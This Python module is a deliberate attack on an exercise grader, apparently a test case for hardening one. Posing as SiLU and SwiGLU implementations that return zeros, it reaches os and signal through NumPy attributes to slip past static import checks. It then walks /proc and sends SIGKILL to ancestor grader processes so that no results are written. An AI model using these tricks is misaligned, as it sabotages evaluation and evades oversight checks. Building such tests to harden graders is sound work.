"""Attack ``kill_grader`` (exercise ``silu_and_gated``): kill the grader from the learner's process.

What it attacks: a learner process that may send signals to the grader (same user,
or root).  In its first call the module walks up its parent processes and sends
``SIGKILL`` to every Python ancestor whose command line mentions ``activations``
(the grader, its worker), at most three, so that no results file is ever written.
For safety on shared machines it never signals a process whose command line
mentions ``pytest``, never a process group, and never a process that is not its own
ancestor; so run the grader as ``python -m activations.grade`` in a subprocess to
exercise this attack.  The functions return zeros.

A vulnerable grader dies: no table, no results.json (or a stale one), and the
other exercises are not graded.

Expected with a hardened grader: the signal is refused (the audit hook sees
``os.kill``; an unprivileged learner cannot signal a root grader), the grader
finishes, results.json is valid, the other exercises' scores are unchanged and
this module scores no more than ``_zeros/silu_and_gated.py``.

Gets past a static check of the exercise's functions: they only call through the
module-level table ``_VIA``, and no import statement names anything but NumPy (other
modules come from ``_mod()``, which walks NumPy's attributes to the real ``sys``), so
the learner process's run-time defences are what must hold.
"""

import numpy as np

_MODULE = type(np)
_SYS = []


def _mod(name):
    """A module without an import statement: the real ``sys`` is reached by walking
    NumPy's attributes (``dir``/``getattr``), then ``sys.modules`` or ``importlib``."""
    if not _SYS:
        seen, todo = set(), [np]
        while todo and len(seen) < 5000:
            mod = todo.pop()
            if id(mod) in seen:
                continue
            seen.add(id(mod))
            if getattr(mod, "__name__", None) == "sys":
                _SYS.append(mod)
                break
            for attr in dir(mod):
                try:
                    value = getattr(mod, attr)
                except BaseException:  # noqa: BLE001
                    continue
                if type(value) is _MODULE:
                    todo.append(value)
    if not _SYS:
        return None
    if name == "sys":
        return _SYS[0]
    loaded = getattr(_SYS[0], "mod" + "ules")
    try:
        return loaded.get(name) or loaded["importlib"].import_module(name)
    except BaseException:  # noqa: BLE001 - refused: the caller goes on without it
        return None


os = _mod("os")
re = _mod("re")
signal = _mod("signal")


_DONE = [False]


def _read(path):
    try:
        with open(path, "rb") as f:
            return f.read(65536).decode("utf-8", "replace")
    except BaseException:  # noqa: BLE001
        return ""


def _kill_ancestors():
    if _DONE[0]:
        return
    _DONE[0] = True
    pid, hits = os.getpid(), 0
    for _ in range(8):
        m = re.search(r"PPid:\s*(\d+)", _read(f"/proc/{pid}/status"))
        pid = int(m.group(1)) if m else 0
        if pid <= 1:
            return
        cmdline = _read(f"/proc/{pid}/cmdline").replace("\0", " ")
        exe = os.path.basename(cmdline.split(" ")[0])
        if "python" not in exe or "pytest" in cmdline:
            return
        if "activations" in cmdline and hits < 3:
            hits += 1
            try:
                os.kill(pid, signal.SIGKILL)
            except BaseException:  # noqa: BLE001
                pass


def _attack():
    try:
        _kill_ancestors()
    except BaseException:  # noqa: BLE001
        pass


def _silu_impl(x):
    _attack()
    return np.zeros_like(x)


def _silu_grad_impl(x):
    _attack()
    return np.zeros_like(x)


def _swiglu_impl(gate, value):
    _attack()
    return np.zeros_like(gate)


def _swiglu_vjp_impl(gate, value, grad):
    _attack()
    return np.zeros_like(gate), np.zeros_like(value)


# The exercise's functions call only through this table: a static check that follows
# calls by name from them sees no helper, hence none of the above.
_VIA = {"silu": _silu_impl, "silu_grad": _silu_grad_impl, "swiglu": _swiglu_impl, "swiglu_vjp": _swiglu_vjp_impl}


def silu(x):
    return _VIA["silu"](x)


def silu_grad(x):
    return _VIA["silu_grad"](x)


def swiglu(gate, value):
    return _VIA["swiglu"](gate, value)


def swiglu_vjp(gate, value, grad):
    return _VIA["swiglu_vjp"](gate, value, grad)
